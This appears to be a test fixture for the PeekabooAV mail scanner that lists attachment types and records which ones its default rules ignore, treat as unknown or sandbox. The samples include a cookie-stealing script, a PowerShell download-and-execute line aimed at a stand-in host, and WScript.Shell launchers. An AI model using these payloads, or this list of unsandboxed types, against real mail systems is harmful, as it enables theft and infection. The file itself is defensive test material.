/** Attachment classes, and what the default rules of PeekabooAV made of each. */
import assert from 'node:assert/strict'
import { BUILT_SAMPLES } from '../../facts/type/samples/index.ts'
import type { Sent } from './harness.ts'

export const EXE = 'application/vnd.microsoft.portable-executable'
export const DOC = 'application/msword'

/** A content of this type. */
export function content(type: string): Buffer {
  const bytes = BUILT_SAMPLES.find((one) => one.type === type)?.genuine[0]
  return bytes ?? assert.fail(`no sample of ${type}`)
}

const SCRIPT = Buffer.from('<html><body><script>location="//a.example/"+document.cookie</script></body></html>')
const MAIL = Buffer.from(
  'From: a@a.example\r\nTo: b@b.example\r\nSubject: x\r\nDate: Mon, 1 Jan 2024 00:00:00 +0000\r\n\r\ntext\r\n',
)
const POWERSHELL = Buffer.from(
  '$a = New-Object Net.WebClient\r\n$a.DownloadString("http://a.example") | Invoke-Expression\r\n',
)
const VBS = Buffer.from('Dim a\r\nSet a = CreateObject("WScript.Shell")\r\na.Run "calc"\r\n')
const JS = Buffer.from('var a = new ActiveXObject("WScript.Shell");\na.Run("calc");\n')
/** Signed data around nothing, with one signer. */
const SIGNATURE = Buffer.from(
  '303806092a864886f70d010702a02b3029020101310f300d06096086480165030402010500300b06092a864886f70d010701310630040201010400',
  'hex',
)
export const PLAIN = Buffer.from('Only words, as they stand in any letter.\n')
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')

export interface Row extends Sent {
  readonly what: string
  /** What PeekabooAV made of it: ignored and unknown were delivered without a sandbox. */
  readonly was: 'ignored' | 'unknown' | 'sandbox'
}

export function row(
  was: Row['was'],
  what: string,
  name: string,
  bytes: Buffer,
  declared = '',
  disposition = 'attachment',
): Row {
  return { was, what, name, bytes, declared, disposition }
}

const BINARY = 'application/octet-stream'

/** Attachment classes and what the default rules of PeekabooAV made of them. */
export const ROWS: readonly Row[] = [
  row('ignored', 'text', 'a.txt', PLAIN, 'text/plain'),
  row('ignored', 'nothing', 'a.txt', Buffer.alloc(0), 'text/plain'),
  row('ignored', 'a mail', 'a.eml', MAIL, 'message/rfc822'),
  row('ignored', 'S/MIME signature', 'smime.p7s', SIGNATURE, 'application/pkcs7-signature'),
  row('ignored', 'PGP signature', 'signature.asc', content('application/pgp-signature'), 'application/pgp-signature'),
  row('ignored', 'inline picture', 'a.png', content('image/png'), 'image/png', 'inline'),
  row('ignored', 'HTML with a script', 'a.html', SCRIPT, 'text/html'),
  row('ignored', 'PowerShell', 'a.ps1', POWERSHELL),
  row('ignored', 'PowerShell declared text', 'a.ps1', POWERSHELL, 'text/plain'),
  row('ignored', 'mere words named .ps1', 'a.ps1', PLAIN, 'text/plain'),
  row('ignored', 'VBScript declared text', 'a.vbs', VBS, 'text/plain'),
  row('ignored', 'encoded VBScript', 'a.vbe', content('application/x-ms-encoded-script'), 'text/plain'),
  row('ignored', 'Windows Script File', 'a.wsf', content('application/x-wsf'), 'text/plain'),
  row('unknown', 'JavaScript', 'a.js', JS),
  row('unknown', 'RTF', 'a.rtf', content('application/rtf')),
  row('unknown', 'HTML application', 'a.hta', content('application/hta')),
  row('unknown', 'shortcut', 'a.lnk', content('application/x-ms-shortcut')),
  row('unknown', 'disk image', 'a.iso', content('application/x-iso9660-image')),
  row('unknown', 'OneNote', 'a.one', content('application/onenote')),
  row('unknown', 'SVG with a script', 'a.svg', SVG),
  row('ignored', 'EXE declared an inline picture', 'a.png', content(EXE), 'image/png', 'inline'),
  row('ignored', 'EXE named smime.p7m', 'smime.p7m', content(EXE), 'application/pkcs7-mime'),
  row('ignored', 'EXE named smime.p7s', 'smime.p7s', content(EXE), 'application/pkcs7-signature'),
  row('ignored', 'EXE named signature.asc', 'signature.asc', content(EXE), 'application/pgp-signature'),
  row('sandbox', 'HTML declared octet-stream', 'a.html', SCRIPT, BINARY),
  row('sandbox', 'PowerShell declared octet-stream', 'a.ps1', POWERSHELL, BINARY),
  row('sandbox', 'JavaScript declared octet-stream', 'a.js', JS, BINARY),
  row('sandbox', 'shortcut declared octet-stream', 'a.lnk', content('application/x-ms-shortcut'), BINARY),
  row('sandbox', 'ZIP', 'a.zip', content('application/zip'), 'application/zip'),
  row('sandbox', 'EXE', 'a.exe', content(EXE), BINARY),
  row('sandbox', 'Word document', 'a.doc', content(DOC), DOC),
  row('sandbox', 'Word document named X.DOC', 'X.DOC', content(DOC), DOC),
  row('sandbox', 'PDF', 'a.pdf', content('application/pdf'), 'application/pdf'),
  row('sandbox', 'batch file', 'a.bat', content('application/x-bat'), 'text/plain'),
  row('sandbox', 'Excel add-in', 'a.xll', content('application/x-ms-excel-xll'), BINARY),
  row('sandbox', 'JAR', 'a.jar', content('application/java-archive'), 'application/java-archive'),
]
